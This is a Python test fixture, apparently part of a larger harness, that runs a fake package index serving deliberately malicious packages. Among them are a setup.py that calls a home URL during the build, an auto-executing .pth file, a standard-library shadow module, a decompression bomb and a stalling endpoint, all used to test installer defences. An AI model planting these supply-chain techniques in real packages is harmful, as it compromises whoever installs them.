# A package index whose packages mean harm. It stands in front of the program of the outside, which serves it.

import base64
import hashlib
import io
import tarfile
import zipfile

HERE = "http://" + P["public"]


def wheel(name, files, requires=()):
    """A wheel of these files."""
    info = "%s-1.0.dist-info/" % name.replace("-", "_")
    metadata = "Metadata-Version: 2.1\nName: %s\nVersion: 1.0\n" % name
    metadata += "".join("Requires-Dist: %s\n" % other for other in requires)
    files = dict(files)
    files[info + "METADATA"] = metadata.encode()
    files[info + "WHEEL"] = b"Wheel-Version: 1.0\nGenerator: attack\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    record = ""
    for path, content in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(content).digest()).rstrip(b"=").decode()
        record += "%s,sha256=%s,%d\n" % (path, digest, len(content))
    files[info + "RECORD"] = (record + info + "RECORD,,\n").encode()
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, content in files.items():
            archive.writestr(path, content)
    return packed.getvalue()


def source(name, attack_id):
    """A source package whose build calls home."""
    setup = ("import urllib.request, setuptools\n"
             "urllib.request.urlopen('%s/evil/%s', timeout=5)\n"
             "setuptools.setup(name='%s', version='1.0')\n" % (HERE, attack_id, name)).encode()
    info = ("Metadata-Version: 2.1\nName: %s\nVersion: 1.0\n" % name).encode()
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        for path, content in (("setup.py", setup), ("PKG-INFO", info)):
            entry = tarfile.TarInfo("%s-1.0/%s" % (name, path))
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return packed.getvalue()


WHO = b"import os, sys; sys.stdout.write('@P07.path-file %s\\n' % ('done' if os.getuid() < 20000 else 'the program'))\n"
TAR, WHEEL = "%s-1.0.tar.gz", "%s-1.0-py3-none-any.whl"
PACKAGES = {
    "innocent": (WHEEL, lambda: wheel("innocent", {"innocent.py": b"WORD = 'innocent'\n"})),
    "attack-source": (TAR, lambda: source("attack-source", "P06.source")),
    "attack-below": (TAR, lambda: source("attack-below", "P06.dependency")),
    "attack-above": (WHEEL, lambda: wheel("attack-above", {"above.py": b""}, ["attack-below"])),
    "attack-path": (WHEEL, lambda: wheel("attack-path", {"attack.pth": WHO})),
    "attack-shadow": (WHEEL, lambda: wheel("attack-shadow", {"colorsys.py": b"SHADOW = True\n"})),
    "attack-bomb": (WHEEL, lambda: wheel("attack-bomb", {"bomb.bin": bytes(200 << 20)})),
}
MADE = {}


def index_answer(path, send):
    """Serves a path of the index; says whether it is one."""
    parts = [part for part in path.split("/") if part]
    if parts[:1] == ["simple"] and len(parts) == 2:
        name = parts[1]
        if name == "attack-stalling":
            time.sleep(40)
            return True
        if name not in PACKAGES:
            send(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
            return True
        file = PACKAGES[name][0] % (name if PACKAGES[name][0] == TAR else name.replace("-", "_"))
        page = ("<!doctype html><a href='/files/%s/%s'>%s</a>" % (name, file, file)).encode()
        send(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % len(page))
        send(page)
        return True
    if parts[:1] == ["files"] and len(parts) == 3 and parts[1] in PACKAGES:
        with LOCK:
            content = MADE.get(parts[1]) or MADE.setdefault(parts[1], PACKAGES[parts[1]][1]())
        send(b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: %d\r\n"
             b"Connection: close\r\n\r\n" % len(content))
        send(content)
        return True
    return False
